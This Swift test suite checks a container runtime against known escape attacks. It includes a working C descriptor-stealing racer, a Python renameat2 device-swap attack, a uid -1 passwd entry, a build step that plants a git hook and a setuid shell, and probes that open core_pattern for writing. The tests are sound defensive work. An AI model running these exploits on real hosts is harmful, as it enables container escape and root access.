import Foundation
import Testing

/// Attacks that once worked (issue 23), each performed as an attacker would against the built
/// binary. Each test names the class of hole it guards.
@Suite("escapes: what a container or its image must never reach")
struct EscapeTests {
    /// Class: the runtime's descriptors reached through /proc/PID/fd of a container process that
    /// is still being set up (CVE-2016-9962). Between dropping its capabilities and its exec, a
    /// container's first process is a copy of the monitor holding the monitor's descriptors, one
    /// of them the host's cgroup directory; a process of another container in the same pid
    /// namespace (`--pid container:racer`), with Docker's default capabilities, races to open
    /// them and climb `..` to the host's root. The process must not be dumpable then.
    @Test func aStartingContainersDescriptorsAreNotReachableFromItsPidNamespace() throws {
        let root = try CellRoot()
        try root.importBusybox()
        let secret = "SECRET-\(UUID().uuidString)"
        let secretFile = root.file("secret")
        try secret.write(toFile: secretFile, atomically: true, encoding: .utf8)
        let tools = root.file("racer-tools")
        try FileManager.default.createDirectory(atPath: tools, withIntermediateDirectories: true)
        // A static C racer: any new process's descriptors 3 to 40, `..` up from each to the
        // host's root, then the secret's path; a win is written to /tools/won. Spinning, it tries
        // thousands of times per victim's start.
        let racer = """
            #define _GNU_SOURCE
            #include <fcntl.h>
            #include <stdio.h>
            #include <stdlib.h>
            #include <string.h>
            #include <time.h>
            #include <unistd.h>
            int main(int argc, char **argv) {
                char target[4096];
                snprintf(target, sizeof target, "../../../../../../../../../..%s", argv[1]);
                time_t end = time(NULL) + atoi(argv[2]);
                int ready = open("/tools/ready", O_WRONLY | O_CREAT, 0644);
                if (ready >= 0) close(ready);
                while (time(NULL) < end) {
                    char text[32] = {0};
                    int last = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
                    if (last < 0) return 2;
                    ssize_t n = read(last, text, sizeof text - 1);
                    close(last);
                    int newest = n > 0 ? atoi(text) : 0;
                    for (int pid = newest > 2 ? newest - 1 : 2; pid <= newest + 2; pid++) {
                        for (int fd = 3; fd <= 40; fd++) {
                            char path[64];
                            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                            int directory = open(path, O_RDONLY | O_DIRECTORY);
                            if (directory < 0) continue;
                            int stolen = openat(directory, target, O_RDONLY);
                            close(directory);
                            if (stolen < 0) continue;
                            char bytes[256] = {0};
                            ssize_t got = read(stolen, bytes, sizeof bytes - 1);
                            close(stolen);
                            int won = open("/tools/won", O_WRONLY | O_CREAT | O_TRUNC, 0644);
                            if (won >= 0 && got > 0) { dprintf(won, "pid %d fd %d: %s\\n", pid, fd, bytes); close(won); }
                            return 1;
                        }
                    }
                }
                return 0;
            }
            """
        try racer.write(toFile: "\(tools)/racer.c", atomically: true, encoding: .utf8)
        let built = try Command.run("/usr/bin/env", ["clang", "-static", "-O2", "-o", "\(tools)/racer", "\(tools)/racer.c"])
        try #require(built.status == 0, "clang: \(built.stderr)")
        try root.cell("run", "-d", "--name", "racer", "-v", "\(tools):/tools", "busybox", "/tools/racer", secretFile, "60").expectSuccess()
        defer { _ = try? root.cell("rm", "-f", "racer") }
        #expect(waitUntil { FileManager.default.fileExists(atPath: "\(tools)/ready") })
        // Victims joining its pid namespace, detached (cloned ahead) and removed at once (not).
        for round in 0..<15 {
            let flags = round % 2 == 0 ? ["-d"] : ["--rm"]
            // Not checked: a racer that won ends, and its pid namespace with it.
            _ = try root.cell(["run"] + flags + ["--pid", "container:racer", "busybox", "true"])
            if FileManager.default.fileExists(atPath: "\(tools)/won") { break }
        }
        let won = (try? String(contentsOfFile: "\(tools)/won", encoding: .utf8)) ?? ""
        #expect(won.isEmpty, "a container reached the host's files: \(won)")
        #expect(!won.contains(secret))
        let all = try root.cell("ps", "-aq").stdout.split(separator: "\n").map(String.init)
        try root.cell(["rm", "-f"] + all).expectSuccess()
        try expectNothingLeft(root)
    }

    /// Class: a host process that opens a path inside a running container by name, after
    /// checking it by name (CVE-2018-15664). The container swaps a regular file and a block
    /// device node it made (of a host loop device) with renameat2(RENAME_EXCHANGE) in a loop;
    /// `cp` in and out, `commit` and `cell test`'s file check must never open the device.
    @Test func aSwappedDeviceNodeIsNeverOpenedByTheHost() throws {
        let root = try CellRoot()
        try root.importBusybox()
        let secret = "SECRET-\(UUID().uuidString)"
        let backing = root.file("disk.img")
        try Command.shell("printf '%s' '\(secret)' > \(backing) && truncate -s 1M \(backing)").expectSuccess()
        let attach = try Command.run("/usr/sbin/losetup", ["-f", "--show", backing])
        try #require(attach.status == 0, "losetup: \(attach.stderr)")
        let loop = attach.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        defer { _ = try? Command.run("/usr/sbin/losetup", ["-d", loop]) }
        var st = stat()
        try #require(stat(loop, &st) == 0)
        let (major, minor) = (Int(st.st_rdev >> 8) & 0xfff, Int(st.st_rdev & 0xff))

        // The attacker: the host's python3, bound read-only, swapping a regular file `target`
        // with `evil` (a node of the host's loop device) forever. "racer" does it in /dev (the
        // container's own tmpfs, where nodes work: what cp and `cell test` reach), "committer"
        // in /race (in the overlay's upper directory: what commit reads).
        let attack = """
            import ctypes, os, stat, sys
            libc = ctypes.CDLL(None, use_errno=True)
            directory = sys.argv[1]
            os.makedirs(directory, exist_ok=True)
            target, evil = directory + '/target', directory + '/evil'
            def device(path):
                try: return stat.S_ISBLK(os.lstat(path).st_mode)
                except FileNotFoundError: return None
            def repair():  # the victim's copy may have replaced either name by a regular file
                if not device(evil) and not device(target):
                    if device(evil) is not None: os.unlink(evil)
                    os.mknod(evil, 0o600 | stat.S_IFBLK, os.makedev(\(major), \(minor)))
                if device(target) is None:
                    with open(target, 'w') as f: f.write('innocent\\n')
            repair()
            open(directory + '/ready', 'w').close()
            while True:
                for _ in range(100): libc.renameat2(-100, target.encode(), -100, evil.encode(), 2)
                try: repair()
                except OSError: pass
            """
        // One at a time: two spinning swappers on two cores starve the copies they race.
        func startSwapper(_ name: String, in directory: String) throws {
            try root.cell("run", "-d", "--name", name, "-v", "/usr:/usr:ro", "-v", "/lib:/lib:ro", "-v", "/lib64:/lib64:ro",
                          "busybox", "/usr/bin/python3", "-c", attack, directory).expectSuccess()
            #expect(try waitUntil { try root.cell("exec", name, "test", "-e", "\(directory)/ready").status == 0 })
        }
        defer { _ = try? root.cell("rm", "-f", "racer", "committer") }
        try startSwapper("racer", in: "/dev")

        // Out: never the device's bytes. A copy that caught the node copies the node (as
        // Docker's does), which this test must not open either.
        let deadline = Date().addingTimeInterval(25)
        var tries = 0
        while tries < 60 && Date() < deadline {
            tries += 1
            let out = root.file("out-\(tries)")
            let copied = try root.cell("cp", "racer:/dev/target", out)
            #expect(copied.status == 0 || copied.stderr.split(separator: "\n").count == 1, "\(copied.stderr)")
            var copy = stat()
            if copied.status == 0, lstat(out, &copy) == 0, (copy.st_mode & S_IFMT) == S_IFREG {
                let bytes = try #require(FileManager.default.contents(atPath: out))
                #expect(!String(decoding: bytes, as: UTF8.self).contains("SECRET"), "cp out read the host's device (try \(tries))")
            }
            unlink(out)
            let streamed = try root.cell("cp", "racer:/dev/target", "-")
            #expect(!streamed.stdout.contains("SECRET"), "cp out to a tar read the host's device (try \(tries))")
        }
        // The structure test's file check reads through the container's root too: it may fail
        // to read a node, never read the device (whose bytes are not "innocent").
        let spec = root.file("spec.yaml")
        try """
            schemaVersion: 2.0.0
            fileContentTests:
              - name: target
                path: /dev/target
                expectedContents: ['innocent']
            """.write(toFile: spec, atomically: true, encoding: .utf8)
        for _ in 0..<40 {
            let checked = try root.cell("test", "--container", "racer", "--config", spec)
            #expect(!checked.stdout.contains("not found in file content"), "cell test read the host's device")
        }
        try root.cell("rm", "-f", "racer").expectSuccess()

        // Commit: the layer is read from the upper directory while the container swaps.
        try startSwapper("committer", in: "/race")
        for attempt in 0..<15 {
            let committed = try root.cell("commit", "committer", "snap:\(attempt)")
            guard committed.status == 0 else { continue }
            let shown = try root.cell("run", "--rm", "snap:\(attempt)", "cat", "/race/target")
            #expect(!shown.stdout.contains("SECRET"), "commit read the host's device into a layer")
        }
        try root.cell("rm", "-f", "committer").expectSuccess()

        // In: the device must keep its bytes; no payload may reach it.
        try startSwapper("racer", in: "/dev")
        let payload = root.file("payload")
        try "PAYLOAD\n".write(toFile: payload, atomically: true, encoding: .utf8)
        let start = Date()
        for _ in 0..<500 where Date().timeIntervalSince(start) < 20 {
            let copied = try root.cell("cp", payload, "racer:/dev/target")
            #expect(copied.status == 0 || copied.stderr.split(separator: "\n").count == 1, "\(copied.stderr)")
            // The device's writes reach the backing file when its last opener closes it.
            if FileManager.default.contents(atPath: backing)?.starts(with: Data("PAYLOAD".utf8)) == true { break }
        }
        try root.cell("rm", "-f", "racer").expectSuccess()
        _ = try Command.run("/usr/sbin/losetup", ["-d", loop])
        let disk = try #require(FileManager.default.contents(atPath: backing))
        #expect(String(decoding: disk.prefix(secret.utf8.count), as: UTF8.self) == secret, "cp in wrote into the host's device")
        #expect(!String(decoding: disk, as: UTF8.self).contains("PAYLOAD"))
        try expectNothingLeft(root)
    }

    /// Class: an id the kernel reads as "leave unchanged". (uid_t)-1 = 4294967295 given to
    /// setresuid keeps root with every default capability; runc refuses ids above 2147483647
    /// wherever they come from, and so must cell: -u, --group-add, USER, /etc/passwd, exec -u.
    @Test func idsOutsideRuncsRangeNeverRunAsRoot() throws {
        let root = try CellRoot()
        try root.importBusybox()
        func expectRefused(_ result: CommandResult, _ what: String, sourceLocation: SourceLocation = #_sourceLocation) {
            #expect(result.status == 125, "\(what): exit \(result.status)", sourceLocation: sourceLocation)
            #expect(result.stdout.isEmpty, "\(what) ran: \(result.stdout)", sourceLocation: sourceLocation)
            #expect(result.stderr.contains("uids and gids must be in range 0-2147483647")
                        && result.stderr.split(separator: "\n").count == 1, "\(what): \(result.stderr)", sourceLocation: sourceLocation)
        }
        for user in ["4294967295", "2147483648", "0:4294967295", "4294967295:0"] {
            expectRefused(try root.cell("run", "--rm", "-u", user, "busybox", "id"), "-u \(user)")
        }
        expectRefused(try root.cell("run", "--rm", "--group-add", "4294967295", "busybox", "id"), "--group-add")
        expectRefused(try root.cell("create", "-u", "4294967295", "busybox", "id"), "create -u")
        #expect(try root.cell("ps", "-aq").stdout.isEmpty, "a refused id creates no container")
        // The largest id allowed works, and is who the process is.
        #expect(try root.cell("run", "--rm", "-u", "2147483647:2147483647", "busybox", "sh", "-c", "id -u; id -g").lines
                    == ["2147483647", "2147483647"])

        // From the image: USER, and a passwd entry that names the id.
        let context = root.file("context")
        try FileManager.default.createDirectory(atPath: context, withIntermediateDirectories: true)
        try "FROM busybox\nUSER 4294967295\n".write(toFile: "\(context)/Imagefile", atomically: true, encoding: .utf8)
        try root.cell("build", "-q", "-t", "numeric", context).expectSuccess()
        expectRefused(try root.cell("run", "--rm", "numeric", "id"), "USER 4294967295")
        try """
            FROM busybox
            RUN echo 'evil:x:4294967295:4294967295::/:/bin/sh' >> /etc/passwd
            USER evil
            """.write(toFile: "\(context)/Imagefile", atomically: true, encoding: .utf8)
        try root.cell("build", "-q", "-t", "named", context).expectSuccess()
        expectRefused(try root.cell("run", "--rm", "named", "id"), "USER evil from passwd")
        // A RUN step as that user is refused too.
        try "FROM named\nRUN id\n".write(toFile: "\(context)/Imagefile", atomically: true, encoding: .utf8)
        let runStep = try root.cell("build", "-q", context)
        #expect(runStep.status != 0 && runStep.stderr.contains("uids and gids must be in range"), "RUN as evil: \(runStep.stderr)")

        // exec -u into a running container.
        try root.cell("run", "-d", "--name", "target", "busybox", "sleep", "1000").expectSuccess()
        defer { _ = try? root.cell("rm", "-f", "target") }
        expectRefused(try root.cell("exec", "-u", "4294967295", "target", "id"), "exec -u")
        expectRefused(try root.cell("exec", "-u", "0:4294967295", "target", "id"), "exec -u 0:4294967295")
        #expect(try root.cell("exec", "-u", "2147483647", "target", "id", "-u").stdout == "2147483647\n")
        try root.cell("rm", "-f", "target").expectSuccess()
        try expectNothingLeft(root)
    }

    /// Class: a read-only bind whose submounts stay writable. With `-v /:/host:ro` (monitoring
    /// agents' habit) the host's /proc/sys (kernel.core_pattern is code execution as host root),
    /// /sys, cgroups and /dev/shm sat writable below the read-only top. Read-only is recursive,
    /// as in Docker 25; `ro-non-recursive` asks for the old behaviour by name.
    @Test func aReadOnlyBindIsReadOnlyAllTheWayDown() throws {
        let root = try CellRoot()
        try root.importBusybox()
        let source = root.file("source")
        try FileManager.default.createDirectory(atPath: "\(source)/sub", withIntermediateDirectories: true)
        try Command.run("/bin/mount", ["-t", "tmpfs", "tmpfs", "\(source)/sub"]).expectSuccess()
        defer { _ = try? Command.run("/bin/umount", ["\(source)/sub"]) }

        let probe = "for f in /host/top /host/sub/file; do touch $f 2>/dev/null && echo \"wrote $f\" || echo \"refused $f\"; done"
        func written(_ mode: String, _ extra: [String] = []) throws -> [String] {
            let run = try root.cell(["run", "--rm"] + extra + ["-v", "\(source):/host\(mode)", "busybox", "sh", "-c", probe])
            #expect(run.status == 0, "\(mode): \(run.stderr)")
            return run.lines
        }
        #expect(try written(":ro") == ["refused /host/top", "refused /host/sub/file"])
        #expect(try written(":rro") == ["refused /host/top", "refused /host/sub/file"])
        #expect(try written(":ro-force-recursive") == ["refused /host/top", "refused /host/sub/file"])
        #expect(try written(":ro", ["--uidmap", "0:200000:65536"]) == ["refused /host/top", "refused /host/sub/file"])
        #expect(try written(":ro-non-recursive") == ["refused /host/top", "wrote /host/sub/file"])
        #expect(try written("") == ["wrote /host/top", "wrote /host/sub/file"])
        #expect(try written(":rw") == ["wrote /host/top", "wrote /host/sub/file"])
        let conflicting = try root.cell("run", "--rm", "-v", "\(source):/host:ro,rw", "busybox", "true")
        #expect(conflicting.status == 125 && conflicting.stderr.contains("invalid mode: ro,rw"), "\(conflicting.stderr)")

        // The whole host, read-only: opening for writing (never writing) each file that matters.
        let shmProbe = "cell-probe-\(UUID().uuidString.prefix(8))"
        defer { unlink("/dev/shm/\(shmProbe)") }
        let targets = ["/host/proc/sys/kernel/core_pattern", "/host/sys/kernel/uevent_helper", "/host/dev/shm/\(shmProbe)",
                       "/host/sys/fs/cgroup/cgroup.procs", "/host/proc/sysrq-trigger"]
        let opens = try root.cell(["run", "--rm", "-v", "/:/host:ro", "busybox", "sh", "-c",
                                   "for f in \(targets.joined(separator: " ")); do (exec 3>>$f) 2>/dev/null && echo \"writable $f\"; done; echo checked"])
        #expect(opens.stdout == "checked\n", "\(opens.stdout) \(opens.stderr)")
        #expect(!FileManager.default.fileExists(atPath: "/dev/shm/\(shmProbe)"))
        try Command.run("/bin/umount", ["\(source)/sub"]).expectSuccess()
        try expectNothingLeft(root)
    }

    /// Class: a "regular file" of the kernel's own file systems, reached through a running
    /// container's root (/proc/PID/root holds its /proc). /proc/kmsg blocks forever (and only
    /// the host's root may read it), /proc/1/pagemap is 256 GB: a link to either at /etc/passwd
    /// hung every `cell exec` or exhausted the host's memory, and `cp -L` followed it.
    @Test func kernelFilesInAContainerAreNeverReadByTheHost() throws {
        let root = try CellRoot()
        try root.importBusybox()
        try root.cell("run", "-d", "--name", "trap", "busybox", "sleep", "1000").expectSuccess()
        defer { _ = try? root.cell("rm", "-f", "trap") }
        let environment = ["CELL_ROOT": root.path]
        for target in ["/proc/kmsg", "/proc/1/pagemap"] {
            try root.cell("exec", "trap", "ln", "-sf", target, "/etc/passwd").expectSuccess()
            // Bounded: a regression hangs, and the hang must end the test, not the suite.
            // (The container's own tools reading that passwd are the container's business: the
            // command reads nothing. HOME falls back to / when passwd gives none.)
            let exec = try Command.run("/usr/bin/timeout", ["60", Paths.cell, "exec", "trap", "sh", "-c", "echo $HOME"],
                                       environment: environment)
            #expect(exec.status == 0 && exec.stdout == "/\n", "exec with /etc/passwd -> \(target): \(exec.status) \(exec.stderr)")
            let copied = try Command.run("/usr/bin/timeout", ["60", Paths.cell, "cp", "-L", "trap:/etc/passwd", root.file("passwd")],
                                         environment: environment)
            #expect(copied.status == 1 && copied.stderr.contains("a file of the kernel's proc"), "cp -L of \(target): \(copied.stderr)")
        }
        try root.cell("rm", "-f", "trap").expectSuccess()
        try expectNothingLeft(root)
    }

    /// Class: a mount destination checked as written, then resolved through the image's
    /// symlinks (runc's CVE-2019-19921): `/psys -> /proc/sys`, `/data -> /proc`, `/rootlink -> /`
    /// must not put a volume over the kernel's files or over the root.
    @Test func aSymlinkInTheImageCannotMoveAMountOntoProcOrTheRoot() throws {
        let root = try CellRoot()
        try root.importBusybox()
        let context = root.file("links")
        try FileManager.default.createDirectory(atPath: context, withIntermediateDirectories: true)
        try "FROM busybox\nRUN ln -s /proc/sys /psys && ln -s /proc /data && ln -s / /rootlink\n"
            .write(toFile: "\(context)/Imagefile", atomically: true, encoding: .utf8)
        try root.cell("build", "-q", "-t", "links", context).expectSuccess()
        let volume = root.file("volume")
        try FileManager.default.createDirectory(atPath: volume, withIntermediateDirectories: true)
        for mount in [["-v", "\(volume):/psys"], ["-v", "\(volume):/rootlink"], ["--tmpfs", "/data"], ["-v", "\(volume):/data/self"]] {
            let run = try root.cell(["run", "--rm"] + mount + ["links", "true"])
            #expect(run.status == 125 && run.stderr.contains("a symlink in the image leads the mount point to / or into /proc")
                        && run.stderr.split(separator: "\n").count == 1, "\(mount): \(run.status) \(run.stderr)")
        }
        #expect(try root.cell("ps", "-aq").stdout.isEmpty)
        // A symlink to an ordinary directory still works, as in Docker.
        try "FROM links\nRUN ln -s /tmp /tmplink\n".write(toFile: "\(context)/Imagefile", atomically: true, encoding: .utf8)
        try root.cell("build", "-q", "-t", "links:2", context).expectSuccess()
        try "seen\n".write(toFile: "\(volume)/file", atomically: true, encoding: .utf8)
        #expect(try root.cell("run", "--rm", "-v", "\(volume):/tmplink", "links:2", "cat", "/tmp/file").stdout == "seen\n")
        try expectNothingLeft(root)
    }

    /// Class: a RUN step writing the user's files. `RUN --mount=type=bind,rw=true` bound the
    /// build context itself: an untrusted Imagefile planted a git hook and a setuid shell there.
    /// As in BuildKit, the step writes a copy, and its writes are gone with it.
    @Test func aWritableBindOfTheContextNeverWritesTheContext() throws {
        let root = try CellRoot()
        try root.importBusybox()
        let context = root.file("context")
        try FileManager.default.createDirectory(atPath: "\(context)/.git/hooks", withIntermediateDirectories: true)
        try "kept\n".write(toFile: "\(context)/note", atomically: true, encoding: .utf8)
        try """
            FROM busybox
            RUN --mount=type=bind,rw=true,target=/ctx sh -c 'echo pwned > /ctx/.git/hooks/pre-commit && cp /bin/busybox /ctx/suid && chmod 4755 /ctx/suid && echo changed > /ctx/note && cat /ctx/note > /seen'
            """.write(toFile: "\(context)/Imagefile", atomically: true, encoding: .utf8)
        try root.cell("build", "-q", "-t", "rw", context).expectSuccess()
        #expect(try root.cell("run", "--rm", "rw", "cat", "/seen").stdout == "changed\n", "the step saw its own writes")
        #expect(!FileManager.default.fileExists(atPath: "\(context)/.git/hooks/pre-commit"))
        #expect(!FileManager.default.fileExists(atPath: "\(context)/suid"))
        #expect(try String(contentsOfFile: "\(context)/note", encoding: .utf8) == "kept\n")
        #expect(((try? FileManager.default.contentsOfDirectory(atPath: "\(root.path)/tmp")) ?? []).isEmpty, "the copy is gone")
        try expectNothingLeft(root)
    }

    /// Hazard: `cp` out of a container recreated its device nodes (a node of the host's root disk,
    /// mode 666) and setuid-root files on the host. Without -a, what lands on the host has no
    /// set-id bits and nodes only their owner opens; -a keeps them, as Docker does.
    @Test func copyingOutDefusesNodesAndSetIDBits() throws {
        let root = try CellRoot()
        try root.importBusybox()
        try root.cell("run", "-d", "--name", "maker", "busybox", "sh", "-c",
                      "mkdir /d; mknod /d/node c 1 3; chmod 666 /d/node; cp /bin/busybox /d/suid; chmod 4755 /d/suid; touch /ready; exec sleep 1000")
            .expectSuccess()
        defer { _ = try? root.cell("rm", "-f", "maker") }
        #expect(try waitUntil { try root.cell("exec", "maker", "test", "-e", "/ready").status == 0 })
        for (flags, expected) in [([String](), ["crw-------", "-rwxr-xr-x"]), (["-a"], ["crw-rw-rw-", "-rwsr-xr-x"])] {
            let out = root.file("out\(flags.count)")
            try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
            try root.cell(["cp"] + flags + ["maker:/d", out]).expectSuccess()
            let modes = try Command.shell("stat -c %A \(out)/d/node \(out)/d/suid").lines
            #expect(modes == expected, "cp \(flags): \(modes)")
        }
        try root.cell("rm", "-f", "maker").expectSuccess()
        try expectNothingLeft(root)
    }
}
